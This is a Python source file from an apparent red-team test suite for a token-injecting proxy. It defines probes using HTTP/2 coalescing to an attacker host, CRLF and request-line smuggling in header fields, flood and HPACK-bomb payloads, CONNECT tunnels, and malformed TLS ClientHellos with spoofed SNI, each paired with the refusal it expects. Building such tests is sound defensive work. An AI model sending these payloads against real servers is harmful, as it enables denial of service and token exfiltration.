"""Confusing the destination by another protocol, or by a malformed one (threat model, section 2): HTTP/2, plain HTTP,
tunnels, the handshake of TLS.
"""

from __future__ import annotations

from collections.abc import Callable

from penstock.redteam.expect import (
    alerted,
    both,
    carrying,
    closed,
    exactly,
    h2_refused,
    nothing_sent,
    refused,
    untouched,
)
from penstock.redteam.messages import (
    BEARER,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PATH,
    PING,
    PREFACE,
    RST,
    SETTINGS,
    client_hello,
    extension,
    fields,
    frame,
    h2_answers,
    h2_fields,
    h2_request,
    raw,
    request,
)
from penstock.redteam.probe import (
    API,
    DEVICE,
    PACKAGES,
    PLAIN,
    Expect,
    Kit,
    Probe,
    Seen,
    Wire,
)
from penstock.redteam.probes.building import EVIL, nowhere

# -- HTTP/2 -----------------------------------------------------------------------------------------------------------


def _h2(
    id: str, row: str, tries: str, *pieces: Callable[[Kit], bytes] | bytes, expect: Expect, answers: int = 1
) -> Probe:
    return Probe(
        id=id,
        row=row,
        tries=tries,
        expect=expect,
        attack=Wire(alpn=("h2",), send=pieces, answers=answers),
    )


_AUTH = ("authorization", "Bearer @STUB@")


def _h2_raw(*frames: bytes) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0) + b"".join(frames)


def _block(*more: tuple[str, str]) -> bytes:
    return fields((":method", "GET"), (":scheme", "https"), (":authority", API), (":path", "/k999q"), *more)


def _bounded(seen: Seen) -> str:
    """The connection ended, or the flood was answered by a refusal of its stream."""
    got = h2_answers(seen.back.data)
    if got.goaway or got.resets or seen.back.ended or seen.back.error:
        return nothing_sent(seen)
    return "the flood was not ended"


_HTTP2 = (
    _h2(
        "coalescing.authority",
        "coalescing",
        ":authority of another host than SNI",
        h2_request(*h2_fields(_AUTH, authority=PACKAGES)),
        expect=h2_refused(),
    ),
    _h2(
        "coalescing.evil",
        "coalescing",
        ":authority of the attacker",
        h2_request(*h2_fields(_AUTH, authority=EVIL)),
        expect=both(h2_refused(), untouched),
    ),
    _h2(
        "coalescing.host-too",
        "coalescing",
        ":authority and another host",
        h2_request(*h2_fields(_AUTH, ("host", EVIL))),
        expect=both(h2_refused(), untouched),
    ),
    _h2(
        "coalescing.second-stream",
        "coalescing",
        "the second stream is for another host",
        h2_request(*h2_fields(_AUTH)),
        h2_request(*h2_fields(_AUTH, authority=PACKAGES), stream=3, first=False),
        expect=both(exactly(1), exactly(0, "open")),
        answers=2,
    ),
    _h2(
        "coalescing.no-authority",
        "coalescing",
        "no :authority at all",
        h2_request((":method", "GET"), (":scheme", "https"), (":path", PATH), _AUTH),
        expect=h2_refused(),
    ),
    _h2(
        "coalescing.scheme",
        "coalescing",
        ":scheme http inside TLS",
        h2_request((":method", "GET"), (":scheme", "http"), (":authority", API), (":path", PATH), _AUTH),
        expect=h2_refused(),
    ),
    _h2(
        "coalescing.upper-case",
        "coalescing",
        "a field in capitals",
        h2_request(*h2_fields(_AUTH, ("X-Y", "1"))),
        expect=h2_refused(),
    ),
    _h2(
        "coalescing.crlf",
        "coalescing",
        "a line break in a field",
        h2_request(*h2_fields(_AUTH, ("x", "a\r\nhost: b"))),
        expect=h2_refused(),
    ),
    _h2(
        "coalescing.connection",
        "coalescing",
        "transfer-encoding in HTTP/2",
        h2_request(*h2_fields(_AUTH, ("transfer-encoding", "chunked"))),
        expect=h2_refused(),
    ),
    _h2(
        "coalescing.connect",
        "coalescing",
        "CONNECT as a stream",
        h2_request((":method", "CONNECT"), (":authority", EVIL), ("x-token", "@TOKEN@")),
        expect=both(h2_refused(), untouched),
    ),
    _h2(
        "coalescing.path-line",
        "coalescing",
        "a request line in :path",
        h2_request(*h2_fields(_AUTH, path="/@TOKEN@ HTTP/1.1\r\nHost: x")),
        expect=h2_refused(),
    ),
    _h2(
        "coalescing.method-line",
        "coalescing",
        "a request line in :method",
        h2_request(
            (":method", "GET /@TOKEN@ HTTP/1.1\r\nx: "),
            (":scheme", "https"),
            (":authority", API),
            (":path", PATH),
            _AUTH,
        ),
        expect=h2_refused(),
    ),
    _h2(
        "http2.continuation",
        "http2",
        "2,000 CONTINUATION frames",
        _h2_raw(
            frame(HEADERS, END_STREAM, 1, _block()),
            *(frame(CONTINUATION, 0, 1, fields(("x", "y" * 200))) for _ in range(2000)),
        ),
        expect=_bounded,
    ),
    _h2(
        "http2.resets",
        "http2",
        "2,000 streams that are reset at once",
        _h2_raw(
            *(
                frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, _block()) + frame(RST, 0, 2 * n + 1, b"\0\0\0\x08")
                for n in range(2000)
            )
        ),
        expect=_bounded,
        answers=2000,  # one that was not reset in time may be answered; the end must come all the same
    ),
    _h2(
        "http2.pings",
        "http2",
        "20,000 pings",
        _h2_raw(*(frame(PING, 0, 0, b"12345678") for _ in range(20000))),
        expect=_bounded,
    ),
    _h2(
        "http2.settings",
        "http2",
        "10,000 SETTINGS",
        _h2_raw(*(frame(SETTINGS, 0, 0) for _ in range(10000))),
        expect=_bounded,
    ),
    _h2(
        "http2.frame-size",
        "http2",
        "a frame that says it has 16 MiB",
        _h2_raw(b"\xff\xff\xff\x00\x01\x00\x00\x00\x01"),
        expect=_bounded,
    ),
    _h2(
        "http2.hpack-bomb",
        "http2",
        "a small block that means 16 MiB of fields",
        _h2_raw(
            frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x40\x01x" + b"\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 4096)
        ),
        expect=_bounded,
    ),
    _h2(
        "http2.even-stream",
        "http2",
        "a stream with an even number",
        _h2_raw(frame(HEADERS, END_STREAM | END_HEADERS, 2, _block(("authorization", "Bearer x")))),
        expect=_bounded,
    ),
)

# -- plain HTTP -------------------------------------------------------------------------------------------------------

_PLAINTEXT = (
    Probe(
        id="plaintext.absolute",
        row="plaintext",
        tries="http:// to a bound host",
        attack=Wire(way="proxy", tls=False, send=(request("GET", f"http://{API}/@TOKEN@"),)),
        expect=refused("plaintext_refused", "no_rule"),
    ),
    Probe(
        id="plaintext.port-443",
        row="plaintext",
        tries="http:// to the bound host's port 443",
        attack=Wire(way="proxy", tls=False, send=(request("GET", f"http://{API}:443/@TOKEN@", host=f"{API}:443"),)),
        expect=refused("plaintext_refused", "no_rule"),
    ),
    Probe(
        id="plaintext.in-tunnel",
        row="plaintext",
        tries="plain HTTP in a tunnel to port 443",
        attack=Wire(tls=False, send=(request(host=f"{API}:443"),)),
        expect=refused(),
    ),
    Probe(
        id="plaintext.transparent",
        row="plaintext",
        tries="plain HTTP to port 80 of the bound host's address",
        attack=Wire(way="transparent", port=80, tls=False, send=(request(),)),
        expect=refused("plaintext_refused", "no_rule"),
    ),
    Probe(
        id="plaintext.transparent-443",
        row="plaintext",
        tries="plain HTTP to port 443 of the bound host's address",
        attack=Wire(way="transparent", tls=False, send=(request(host=f"{API}:443"),)),
        expect=refused(),
    ),
    Probe(
        id="plaintext.https-without-tls",
        row="plaintext",
        tries="GET https://... to the proxy, without TLS",
        attack=Wire(way="proxy", tls=False, send=(request("GET", f"https://{API}/@TOKEN@"),)),
        expect=refused("tls_needed"),
    ),
    Probe(
        id="plaintext.stub",
        row="plaintext",
        tries="the stub over http to a host that may be reached so",
        attack=Wire(way="proxy", tls=False, send=(request("GET", f"http://{PLAIN}/@TOKEN@", host=PLAIN),)),
        expect=both(exactly(1, "open"), carrying("@STUB@", role="open")),
    ),
)

# -- tunnels, other protocols -----------------------------------------------------------------------------------------


def _tunnel(name: str, words: str, host: str, port: int) -> Probe:
    return Probe(
        id=f"tunnels.{name}",
        row="tunnels",
        tries=words,
        expect=nowhere,
        attack=Wire(host=host, port=port, sni=host, send=(request(host=f"{host}:{port}"),)),
    )


_TUNNELS = (
    *(
        _tunnel(f"port-{port}", f"CONNECT to port {port} of a bound host", API, port)
        for port in (22, 25, 53, 80, 8443, 5432, 6379)
    ),
    Probe(
        id="tunnels.nested",
        row="tunnels",
        tries="CONNECT inside a tunnel",
        expect=refused(),
        attack=Wire(send=(raw(f"CONNECT {EVIL}:443 HTTP/1.1", f"Host: {EVIL}:443", BEARER),)),
    ),
    Probe(
        id="tunnels.nested-plain",
        row="tunnels",
        tries="CONNECT inside a tunnel, before TLS",
        expect=nowhere,
        attack=Wire(tls=False, send=(raw(f"CONNECT {EVIL}:443 HTTP/1.1", f"Host: {EVIL}:443"),)),
    ),
    Probe(
        id="tunnels.body",
        row="tunnels",
        tries="CONNECT with a body",
        expect=nowhere,
        attack=Wire(connect=f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}\r\nContent-Length: 5\r\n\r\nhello".encode()),
    ),
    Probe(
        id="tunnels.evil",
        row="tunnels",
        tries="CONNECT to the attacker's host",
        expect=nowhere,
        attack=Wire(host=EVIL, send=(request(host=EVIL),)),
    ),
    Probe(
        id="tunnels.transparent-evil",
        row="tunnels",
        tries="TLS to a public address with the attacker's name",
        expect=nowhere,
        attack=Wire(way="transparent", host="198.51.100.9", sni=EVIL, send=(request(host=EVIL),)),
    ),
    Probe(
        id="tunnels.transparent-8443",
        row="tunnels",
        tries="TLS to another port of a public address, with the bound name",
        expect=nowhere,
        attack=Wire(way="transparent", host="198.51.100.9", port=8443, sni=API, send=(request(),)),
    ),
    Probe(
        id="tunnels.socks5",
        row="tunnels",
        tries="SOCKS5 to the proxy",
        expect=closed,
        attack=Wire(way="proxy", tls=False, send=(b"\x05\x01\x00\x05\x01\x00\x03\x0bapi.example\x01\xbb",)),
    ),
    Probe(
        id="tunnels.socks4",
        row="tunnels",
        tries="SOCKS4 to the proxy",
        expect=closed,
        attack=Wire(way="proxy", tls=False, send=(b"\x04\x01\x01\xbb\x7f\x00\x00\x01user\x00\r\n\r\n",)),
    ),
    Probe(
        id="tunnels.haproxy",
        row="tunnels",
        tries="the PROXY protocol to the proxy",
        expect=closed,
        attack=Wire(way="proxy", tls=False, send=(b"PROXY TCP4 127.0.0.1 127.0.0.1 1 443\r\n" + request(),)),
    ),
    Probe(
        id="not-tls.banner",
        row="not-tls",
        tries="SSH's banner in a tunnel to port 443",
        expect=nowhere,
        attack=Wire(tls=False, send=(b"SSH-2.0-OpenSSH_9.0\r\n",)),
    ),
    Probe(
        id="not-tls.binary",
        row="not-tls",
        tries="binary bytes in a tunnel",
        expect=closed,
        attack=Wire(tls=False, send=(b"\x00\x00\x00\x2a" * 20,)),
    ),
    Probe(
        id="not-tls.smtp",
        row="not-tls",
        tries="SMTP in a tunnel",
        expect=closed,
        attack=Wire(tls=False, send=(b"EHLO x\r\nMAIL FROM:<a@b>\r\n\r\n",)),
    ),
    Probe(
        id="not-tls.redis",
        row="not-tls",
        tries="Redis's protocol in a tunnel",
        expect=closed,
        attack=Wire(tls=False, send=(b"*1\r\n$4\r\nINFO\r\n\r\n",)),
    ),
    Probe(
        id="not-tls.sslv2",
        row="not-tls",
        tries="a ClientHello of SSL 2",
        expect=closed,
        attack=Wire(tls=False, send=(b"\x80\x2e\x01\x00\x02" + b"\x00" * 64,)),
    ),
    Probe(
        id="not-tls.device",
        row="not-tls",
        tries="TLS to a host that is bound for SSH",
        expect=nowhere,
        attack=Wire(host=DEVICE, port=443, sni=DEVICE, send=(request(host=DEVICE),)),
    ),
)

# -- ClientHello ------------------------------------------------------------------------------------------------------


def _hello(
    name: str,
    words: str,
    *pieces: Callable[[Kit], bytes] | bytes,
    expect: Expect = alerted,
    row: str = "hello",
    repeat: int = 1,
) -> Probe:
    return Probe(
        id=f"{row}.{name}",
        row=row,
        tries=words,
        expect=expect,
        attack=Wire(tls=False, send=pieces, answers=0, repeat=repeat),
    )


def _evil_hello(kit: Kit) -> bytes:
    return client_hello(kit.fill_text(EVIL))


_HELLOS = (
    _hello("none", "no SNI", client_hello(None)),
    _hello("evil", "SNI of the attacker", _evil_hello),
    _hello(
        "ech-evil",
        "SNI of the attacker, and an encrypted ClientHello",
        lambda kit: client_hello(kit.fill_text(EVIL), extension(0xFE0D, b"\0" * 64)),
    ),
    _hello("address", "SNI with an address", client_hello("127.0.0.1")),
    _hello("nul", "SNI with a NUL", client_hello(f"{API}\0.evil.example")),
    _hello("userinfo", "SNI with an @", client_hello(f"{API}@evil.example")),
    _hello("twice", "two SNI extensions", client_hello(API, extension(0, b"\x00\x0e\x00\x00\x0bevil.exampl"))),
    _hello(
        "two-names", "two names in one SNI", client_hello(None, extension(0, b"\x00\x0c\x00\x00\x03a.b\x00\x00\x03c.d"))
    ),
    _hello("empty", "an empty SNI", client_hello("")),
    _hello("tls-1.0", "TLS 1.0", client_hello(API, version=0x0301, versions=())),
    _hello("tls-1.1", "TLS 1.1", client_hello(API, version=0x0302, versions=())),
    _hello("ssl-3", "SSL 3", client_hello(API, version=0x0300, versions=())),
    _hello("truncated", "lengths that lead outside", client_hello(API)[:-40] + b"\xff" * 40),
    _hello(
        "fragments",
        "no SNI, a byte a record",
        b"".join(b"\x16\x03\x01\x00\x01" + bytes([each]) for each in client_hello(None)[5:69])
        + b"\x16\x03\x01"
        + (len(client_hello(None)) - 69).to_bytes(2, "big")
        + client_hello(None)[69:],
        expect=closed,
    ),
)

PROBES: tuple[Probe, ...] = (*_HTTP2, *_PLAINTEXT, *_TUNNELS, *_HELLOS)
